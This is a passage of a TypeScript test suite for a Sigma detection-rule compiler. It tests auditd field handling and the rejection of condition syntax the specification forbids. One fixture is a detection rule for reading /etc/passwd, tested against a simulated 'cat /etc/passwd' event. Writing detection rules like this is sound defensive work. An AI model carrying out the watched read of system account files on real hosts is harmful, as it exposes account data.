    const split = compiled(ruleText(AUDITD, ["sys:", "  SYSCALL: openat", "path:", "  name: /etc/passwd", "condition: sys or path"]));
    expect(split.why(new SigmaInput(open("/usr/bin/cat", "/etc/passwd")))).toEqual(["sys (SYSCALL record)", "path (PATH record)"]);
  });
  it("a field audit records do not have is refused with the field named", () => {
    expect(refused(compileSigmaText(ruleText(AUDITD, ["sel:", "  Foo: bar", "condition: sel"]), "x.yml")).feature).toBe("field Foo");
  });
});

describe("what the specification does not allow is an error, not a loose match", () => {
  const sels = new Map<string, (x: string) => boolean>([["sel1", (x) => x === "a"], ["sel2", (x) => x === "b"]]);
  it("a bare wildcard name in a condition (sel* without 1 of / all of)", () => {
    expect(() => compileCondition("sel*", sels)).toThrow(SigmaSyntaxError);
    expect(compileCondition("1 of sel*", sels)("b")).toBe(true);
  });
  it("windash with re, and a numeric comparison of hex text", () => {
    expect(() => parseModifiers(["windash", "re"])).toThrow(SigmaSyntaxError);
    expect(val(10, "gt")("0x10")).toBe(false);
    expect(val(10, "gt")("16")).toBe(true);
  });
  it("them when every selection starts with _", () => {
    expect(() => compileCondition("all of them", new Map([["_f", () => true]]))).toThrow(SigmaSyntaxError);
  });
});
